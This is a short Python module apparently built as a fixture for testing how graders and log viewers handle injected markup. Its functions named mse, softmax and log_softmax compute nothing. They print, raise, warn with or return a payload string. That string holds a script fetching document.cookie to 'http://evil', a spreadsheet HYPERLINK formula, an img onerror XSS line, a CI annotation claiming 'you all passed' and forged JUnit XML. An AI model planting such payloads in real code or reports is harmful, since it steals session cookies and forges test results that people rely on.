"""Puts HTML, Markdown, CSV formulas and build-log commands into its docstrings, prints and errors."""
MARKUP = """<script>fetch('http://evil/'+document.cookie)</script>
=HYPERLINK("http://evil","100")
::error file=x,line=1::you all passed
| 100 | 100 |
]]></failure><testcase name="forged"/>
"""
print(MARKUP)


def mse(y_hat, y):
    """<img src=x onerror=alert(1)> =1+1"""
    raise ValueError(MARKUP)


def softmax(x, axis=-1):
    return {MARKUP: 1}


def log_softmax(x, axis=-1):
    import warnings

    warnings.warn(MARKUP, stacklevel=1)
    return MARKUP
